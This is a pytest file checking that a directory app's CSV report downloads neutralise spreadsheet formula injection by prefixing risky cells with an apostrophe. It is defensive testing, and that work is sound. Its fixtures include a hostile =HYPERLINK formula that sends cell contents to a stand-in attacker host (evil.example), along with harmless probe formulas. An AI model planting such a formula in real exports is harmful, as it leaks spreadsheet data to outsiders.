"""CSV downloads hold no cell a spreadsheet would run as a formula (CSV injection).

Anonymous search words reach /reports/unmet-searches.csv as typed, and names of organizations,
services and categories come from agency editors and imports. A cell that begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return (after any spaces) is written with a leading apostrophe,
which spreadsheets read as "this is text" (directory/csvsafe.py); numbers that are not text stay numbers.
"""

import csv
import io

import pytest

from directory.csvsafe import TRIGGERS, neutralise
from providers.models import Organization, Service, TaxonomyTerm
from referrals.models import Feedback
from referrals.reports import TABLES
from search.models import UnmetSearch

from . import test_outcomes
from .test_outcomes import at

example = test_outcomes.example
service_b = test_outcomes.service_b

MARCH = {"first_month": "2026-03", "last_month": "2026-03"}
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


@pytest.fixture
def hostile_names(example):
    """Every name a report shows, as an attacker might type it; and searches that found nothing, likewise."""
    for prefix, organization in zip(["=", "@"], Organization.objects.order_by("name"), strict=False):
        organization.name = f"{prefix}SUM(1+1) {organization.name}"
        organization.save(update_fields=["name"])
    Organization.objects.filter(name="Workforce Program").update(name="-2+3 Workforce Program")
    for prefix, service in zip(["+", "\t="], Service.objects.order_by("name"), strict=False):
        Service.objects.filter(pk=service.pk).update(name=f"{prefix}1+1 {service.name}")
    TaxonomyTerm.objects.filter(code="child-care").update(name="\r=1+1 Child care")
    Feedback.objects.filter(participant_rating__isnull=False).update(participant_barrier="hours")  # a row of barriers
    searches = UnmetSearch.objects.bulk_create(
        [
            UnmetSearch(query=HYPERLINK, category="daycare", zip_code="80219", county="@SUM(A1:A9)"),
            UnmetSearch(query="  =1+1", category="", zip_code="-8021", county="+Denver County, CO"),
        ]
    )
    UnmetSearch.objects.filter(pk__in=[search.pk for search in searches]).update(created_at=at(10, 9))


def cells(response) -> list[str]:
    assert response.status_code == 200, response.status_code
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert len(rows) > 1, "a header and at least one row"
    return [cell for row in rows for cell in row]


def test_it_writes_no_formula_in_any_csv_download(client, admin, hostile_names):
    """Every table's CSV, as the network admin downloads it: no cell begins with a formula character."""
    client.force_login(admin)
    neutralised = {}
    for table in TABLES:
        found = cells(client.get(f"/reports/{table}.csv", MARCH))
        starting = [cell for cell in found if cell.lstrip(" ")[:1] in TRIGGERS]
        assert not starting, (table, starting)
        neutralised[table] = [cell for cell in found if cell.startswith("'")]
    assert f"'{HYPERLINK}" in neutralised["unmet-searches"]
    assert {"'  =1+1", "'@SUM(A1:A9)", "'+Denver County, CO", "'-8021"} <= set(neutralised["unmet-searches"])
    assert any(cell.startswith("'=SUM(1+1)") for cell in neutralised["providers"])
    assert any(cell.startswith("'+1+1") for cell in neutralised["services"])
    assert any(cell.startswith("'\t=1+1") for cell in neutralised["services"])
    assert "'-2+3 Workforce Program" in neutralised["referrers"]
    assert "'\r=1+1 Child care" in neutralised["unmet-needs"]


def test_it_quotes_every_cell_so_a_separator_cannot_start_one(client, admin, hostile_names):
    """A spreadsheet that splits at ";" would make "x;=1+1" two cells: every cell is in quotes, so it cannot."""
    UnmetSearch.objects.create(query="care;=1+1", category="", zip_code="80219", county="")
    UnmetSearch.objects.filter(query="care;=1+1").update(created_at=at(10, 9))
    client.force_login(admin)

    text = client.get("/reports/unmet-searches.csv", MARCH).content.decode()

    assert '"care;=1+1",' in text
    assert text.startswith('"Words","Category","ZIP code","County","Searches"')


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1 303 555 0100", "'+1 303 555 0100"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (" =1", "' =1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign, which some spreadsheets read as one
        ("night care", "night care"),
        ("", ""),
        ("-12.5", "'-12.5"),  # as text, a number is shown as text
        (-3, -3),
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_it_neutralises_text_only(value, written):
    """Text that begins with a formula character gets an apostrophe; numbers that are not text stay numbers."""
    assert neutralise(value) == written
